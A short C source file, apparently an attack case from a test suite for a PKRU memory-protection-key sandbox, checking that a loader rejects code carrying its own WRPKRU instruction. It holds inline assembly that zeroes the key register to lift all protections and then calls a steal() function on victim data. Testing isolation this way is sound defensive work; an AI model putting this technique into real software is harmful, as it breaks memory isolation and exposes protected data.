/* SPDX-License-Identifier: MIT */
/*
 * attack_keys.c: writing PKRU with an instruction of the attacker's own. The
 * loader refuses this component; the control has a loader that does not look.
 */
#include "attacks.h"

static int plain_wrpkru(uint64_t arg)
{
	(void)arg;
	__asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n"
			 "xor %%edx, %%edx\n wrpkru\n" ::
				 : "eax", "ecx", "edx");
	return steal(victim.data);
}

const struct attack attacks_here[] = {
	{"wrpkru", plain_wrpkru},
	{NULL, NULL},
};
